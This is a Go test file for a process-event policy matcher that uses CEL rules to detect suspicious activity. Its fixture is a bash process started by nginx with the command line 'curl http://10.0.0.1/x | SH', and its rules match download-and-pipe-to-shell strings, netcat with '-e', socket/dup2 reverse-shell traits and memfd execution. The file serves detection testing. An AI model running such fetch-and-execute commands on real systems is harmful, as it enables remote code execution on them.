package match_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/procession-dev/procession/internal/event"
	"github.com/procession-dev/procession/internal/policy/celenv"
	"github.com/procession-dev/procession/internal/policy/match"
	"github.com/procession-dev/procession/internal/policy/match/matchtest"
)

func one(t *testing.T, src string) (*match.Matcher, *celenv.Env) {
	t.Helper()
	env, s := newScope(t)
	rules, refused := rulesOf(t, s, []string{src})
	if refused > 0 {
		_, err := s.Condition(src)
		t.Fatalf("%s: %v", src, err)
	}
	m, err := match.New(env, rules)
	if err != nil {
		t.Fatal(err)
	}
	return m, env
}

// shell is bash as nginx would start it.
func shell() *event.Event {
	ev := matchtest.Everyday(1, 1)[0]
	p := ev.Process
	p.Exe, p.Name, p.Cmdline = "/usr/bin/bash", "bash", "bash\x00-c\x00curl http://10.0.0.1/x | SH\x00"
	p.CmdlineLen = uint32(len(p.Cmdline))
	p.IDs = event.IDs{UID: 33, EUID: 0}
	p.Sources[event.FieldCwd] = event.SourceNone
	p.Parent.Name, p.Parent.Exe = "nginx", "/usr/sbin/nginx"
	return ev
}

func TestExplain(t *testing.T) {
	value := func(name, text string) []celenv.Value { return []celenv.Value{{Name: name, Text: text}} }
	const line = "bash -c curl http://10.0.0.1/x | SH"
	for _, tt := range []struct {
		src  string
		want []match.Term
	}{
		{`process.cwd == '/tmp' || process.args[7] == 'x'`, []match.Term{
			{Text: `process.cwd == '/tmp'`, Line: 1, Col: 1, Truth: celenv.Undecided, Values: []celenv.Value{{Name: "process.cwd", Missing: true}}},
			{Text: `process.args[7] == "x"`, Line: 1, Col: 26, Truth: celenv.Failed, Values: value("process.args", `["bash" "-c" "curl http://10.0.0.1/x | SH"]`)},
		}},
		{`pod.labels[?'no'].orValue('x') in ['x', 'y'] && process.pid >= 0`, []match.Term{
			{Text: `pod.labels[?'no'].orValue('x') in ['x', 'y']`, Line: 1, Col: 1, Truth: celenv.True, Values: value("pod.labels", `{}`)},
			{Text: `process.pid >= 0`, Line: 1, Col: 49, Truth: celenv.True, Values: value("process.pid", "3985")},
		}},
		{"variables.isShell &&\n  !(process.name == 'zsh' || variables.isShell)", []match.Term{
			{Text: `process.name in ['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'csh', 'tcsh', and 1 more]`, In: "variables.isShell", Line: 1, Col: 1,
				Truth: celenv.True, Found: []string{"bash"}, Values: value("process.name", "bash")},
			{Text: `process.exe.endsWithAny(['/sh', '/bash', '/dash'])`, In: "variables.isShell", Line: 1, Col: 33,
				Truth: celenv.True, Found: []string{"/bash"}, Values: value("process.exe", "/usr/bin/bash")},
			{Text: `process.name == 'zsh'`, Line: 2, Col: 5, Negated: true, Truth: celenv.False, Values: value("process.name", "bash")},
		}},
		{`process.cmdline.lowerAscii().containsAny(['| sh', 'wget', 'curl']) && process.uid != process.euid && process.uid >= 33`, []match.Term{
			{Text: `process.cmdline.lowerAscii().containsAny(['| sh', 'wget', 'curl'])`, Line: 1, Col: 1, Truth: celenv.True,
				Found: []string{"| sh", "curl"}, Values: value("process.cmdline", line)},
			{Text: `process.uid != process.euid`, Line: 1, Col: 71, Truth: celenv.True,
				Values: []celenv.Value{{Name: "process.uid", Text: "33"}, {Name: "process.euid", Text: "0"}}},
			{Text: `process.uid >= 33`, Line: 1, Col: 102, Truth: celenv.True, Values: value("process.uid", "33")},
		}},
		{`process.args.exists(x, x == '-c' && !x.startsWith('--')) && parent.exe.matches('s?bin/ng') && process.args.exists(a, a == '-c')`, []match.Term{
			{Text: `process.args.exists(a, a == '-c' && !a.startsWith('--'))`, Line: 1, Col: 1, Truth: celenv.True,
				Values: value("process.args", `["bash" "-c" "curl http://10.0.0.1/x | SH"]`)},
			{Text: `parent.exe.matches('s?bin/ng')`, Line: 1, Col: 61, Truth: celenv.True, Values: value("parent.exe", "/usr/sbin/nginx")},
			{Text: `process.args.exists(a, a == '-c')`, Line: 1, Col: 118, Truth: celenv.True, Found: []string{"-c"},
				Values: value("process.args", `["bash" "-c" "curl http://10.0.0.1/x | SH"]`)},
		}},
		{`ancestors.exists(a, a.name == 'nginx' || a.name == 'x') && ancestors.exists(a, a.uid == 7)`, []match.Term{
			{Text: `ancestors.exists(a, a.name == 'nginx')`, Line: 1, Col: 21, Truth: celenv.True, Found: []string{"nginx"}},
			{Text: `ancestors.exists(a, a.name == 'x')`, Line: 1, Col: 42, Truth: celenv.False},
			{Text: `ancestors.exists(a, a.uid == 7)`, Line: 1, Col: 60, Truth: celenv.False},
		}},
	} {
		m, env := one(t, tt.src)
		a := env.NewActivation("n1")
		a.Reset(shell())
		got := m.Explain(a, 0, 200)
		for i := range got {
			if (got[i].Err != nil) != (got[i].Truth == celenv.Failed) {
				t.Errorf("%s: %s is %v, error %v", tt.src, got[i].Text, got[i].Truth, got[i].Err)
			}
			if got[i].Err = nil; len(got[i].Values) == 1 && got[i].Values[0].Name == "ancestors" {
				got[i].Values = nil
			}
		}
		if d := cmp.Diff(tt.want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", tt.src, d)
		}
		for _, term := range m.Explain(a, 0, 20) {
			if len(term.Text) > 20+len(" … ") {
				t.Errorf("%s: %q is longer than 20 bytes", tt.src, term.Text)
			}
		}
	}
}

func TestInfo(t *testing.T) {
	for _, tt := range []struct {
		src  string
		want match.Info
	}{
		{`process.args[1] == '-c' || process.uid == 0`, match.Info{Lazy: 1, Opaque: []string{`process.args[1] == "-c"`}, Cost: match.CostOpaque}},
		{`process.cmdline.matches('[0-9]+') && process.name != 'x'`, match.Info{Atoms: 1, Lazy: 1, Cost: match.CostRegexp}},
		{`pod.labels.?app.orValue('') in ['a', 'b'] && process.pid > 1`, match.Info{Indexed: true, Needs: []string{`process.pid > 1`}, Lazy: 2, Cost: match.CostIndexed}},
		{`process.name != 'x'`, match.Info{Atoms: 1, Cost: match.CostCheap}},
		{`process.cmdline.matches('a+b*c') && process.uid > 3`, match.Info{Indexed: true, Needs: []string{`process.uid > 3`}, Lazy: 2, Cost: match.CostIndexed}},
		{`process.cmdline.matches('(?i)socket[0-9]+|dup2')`, match.Info{Indexed: true, Needs: []string{`process.cmdline.lowerAscii().contains('dup2')`, `process.cmdline.lowerAscii().contains('oc')`},
			Atoms: 2, Lazy: 1, Short: []string{"oc"}, Cost: match.CostIndexed}},
		{`process.exe.endsWith('/nc') && process.cmdline.contains('-e')`, match.Info{Indexed: true, Needs: []string{`process.exe.endsWith('/nc')`}, Atoms: 2, Cost: match.CostIndexed}},
		{`process.cmdline.contains('-e')`, match.Info{Indexed: true, Needs: []string{`process.cmdline.contains('-e')`}, Atoms: 1, Short: []string{"-e"}, Cost: match.CostIndexed}},
		{`process.exeMemfd && !process.name.startsWith('')`, match.Info{Indexed: true, Needs: []string{`process.exeMemfd`}, Atoms: 1, Lazy: 1, Never: true,
			Odd: []match.Odd{{Text: `process.name.startsWith('')`, Line: 1, Col: 22, Value: true}}, Cost: match.CostIndexed}},
		{`process.name.lowerAscii() == 'Bash' || true`, match.Info{Always: true, Cost: match.CostCheap,
			Odd: []match.Odd{{Text: `process.name.lowerAscii() == 'Bash'`, Line: 1, Col: 1}, {Text: `true`, Line: 1, Col: 40, Value: true}}}},
		{`variables.shellByServer`, match.Info{Indexed: true, Atoms: 34, Cost: match.CostIndexed,
			Needs: []string{`process.name == 'ash'`, `process.name == 'bash'`, `process.name == 'csh'`, `process.name == 'dash'`,
				`process.name == 'fish'`, `process.name == 'ksh'`, `process.name == 'sh'`, `process.name == 'tcsh'`}}},
		{`process.name in ['a1','a2','a3','a4','a5','a6','a7','a8','a9','b1','b2','b3','b4','b5','b6','b7','b8','b9']`, match.Info{Indexed: true, Atoms: 1, Cost: match.CostIndexed,
			Needs: []string{`process.name in ['a1', 'a2', 'a3', 'a4', 'a5', 'a6', 'a7', 'a8', and 10 more]`}}},
	} {
		m, _ := one(t, tt.src)
		if d := cmp.Diff(tt.want, m.Rule(0)); d != "" {
			t.Errorf("%s (-want +got):\n%s", tt.src, d)
		}
	}
}
